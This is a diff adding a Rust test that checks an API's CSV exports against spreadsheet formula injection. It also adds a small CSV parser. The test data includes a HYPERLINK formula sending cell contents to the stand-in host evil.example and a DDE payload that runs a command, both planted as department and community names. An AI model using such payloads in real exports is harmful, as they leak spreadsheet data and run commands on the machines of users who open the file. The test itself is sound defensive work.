@@ -504,3 +504,86 @@ async fn an_event_id_past_the_head_is_refused_never_silence() {
     assert_eq!(got.len(), 1);
     assert_eq!(got[0]["seq"], head + 1);
 }
+
+/// Parses CSV the way a spreadsheet reads it (quoted cells, doubled quotes), independently of
+/// the server's writer.
+fn parse_csv(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let mut row = Vec::new();
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') if cell.is_empty() => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    if !cell.is_empty() || !row.is_empty() {
+        row.push(cell);
+        rows.push(row);
+    }
+    rows
+}
+
+#[tokio::test]
+async fn csv_exports_never_carry_a_live_formula() {
+    let s = TestServer::start().await;
+    let city = s.small_city().await;
+    let evil_dept = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    let evil_comm = r#"=cmd|"/c calc"!A1"#;
+    s.ok(
+        "/api/v1/departments",
+        json!({"name": evil_dept, "categories": ["roads"]}),
+        201,
+    )
+    .await;
+    s.ok(
+        "/api/v1/communities",
+        json!({"name": evil_comm, "street_id": city.streets[0]}),
+        201,
+    )
+    .await;
+    for extra in ["-2+3", "+SUM(A1)", "@A1"] {
+        s.ok(
+            "/api/v1/departments",
+            json!({"name": extra, "categories": ["roads"]}),
+            201,
+        )
+        .await;
+    }
+    for (group, evil) in [("department", evil_dept), ("community", evil_comm)] {
+        let res = s
+            .req(
+                Method::GET,
+                &format!("/api/v1/assessment?group={group}&format=csv"),
+            )
+            .send()
+            .await
+            .expect("csv");
+        assert_eq!(res.status().as_u16(), 200);
+        let rows = parse_csv(&res.text().await.expect("text"));
+        assert!(rows.len() > 2);
+        for cell in rows.iter().flatten() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{group}: a live formula in {cell:?}"
+            );
+        }
+        assert!(
+            rows.iter().any(|r| r[2] == format!("'{evil}")),
+            "{group}: the name is there, shown as written: {rows:?}"
+        );
+    }
+}
